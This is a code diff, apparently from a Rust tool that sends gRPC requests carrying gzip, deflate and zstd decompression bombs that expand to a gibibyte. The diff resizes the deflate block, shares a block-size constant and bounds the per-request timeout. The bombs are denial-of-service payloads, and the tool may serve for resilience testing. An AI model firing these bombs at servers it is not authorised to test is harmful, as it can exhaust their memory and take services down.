@@ -20,6 +20,9 @@ use crate::{
 /// What a bomb expands to, in mebibytes.
 const EXPANDED: usize = 1024;
 
+/// A part of that: as much as a block of zstd holds.
+const BLOCK: usize = 1 << 17;
+
 /// Between two bombs: what unpacking costs up to the bound is the server's to pay.
 const PAUSE: Duration = Duration::from_millis(100);
 
@@ -38,7 +41,8 @@ pub(super) async fn run(target: SocketAddr, size: Size) -> anyhow::Result<String
         }
         let mut head = head(target, method, None)?;
         head.headers_mut().insert("grpc-encoding", HeaderValue::from_static(encoding));
-        let became = match timeout(PATIENCE, connection.ask(head, bomb.clone())).await {
+        let patience = PATIENCE.min(end.saturating_duration_since(Instant::now()));
+        let became = match timeout(patience, connection.ask(head, bomb.clone())).await {
             Ok(End::Answered(code, ..)) => format!("{encoding} {code:?}"),
             Ok(End::NotTaken | End::Broken(_)) => {
                 connection = Connection::open(target).await?;
@@ -60,11 +64,11 @@ fn framed(message: &[u8]) -> Bytes {
     frame.freeze()
 }
 
-/// Zeros by deflate: a block of a mebibyte that needs nothing before it, over and over.
+/// Zeros by deflate: a block of 128 KiB that needs nothing before it, over and over.
 fn zeros() -> anyhow::Result<Vec<u8>> {
-    let mut block = Vec::with_capacity(1 << 16);
-    Compress::new(Compression::best(), false).compress_vec(&vec![0; 1 << 20], &mut block, FlushCompress::Full)?;
-    Ok(block.repeat(EXPANDED))
+    let mut block = Vec::with_capacity(1 << 14);
+    Compress::new(Compression::best(), false).compress_vec(&vec![0; BLOCK], &mut block, FlushCompress::Full)?;
+    Ok(block.repeat(EXPANDED * (1 << 20) / BLOCK))
 }
 
 fn gzip() -> anyhow::Result<Bytes> {
@@ -83,7 +87,6 @@ fn deflate() -> anyhow::Result<Bytes> {
 
 /// Blocks of one repeated byte, the largest that there are (RFC 8878, section 3.1.1.2).
 fn zstd() -> Bytes {
-    const BLOCK: usize = 1 << 17;
     let mut message = BytesMut::new();
     message.put_slice(&[0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38]);
     for _ in 0..EXPANDED * (1 << 20) / BLOCK {
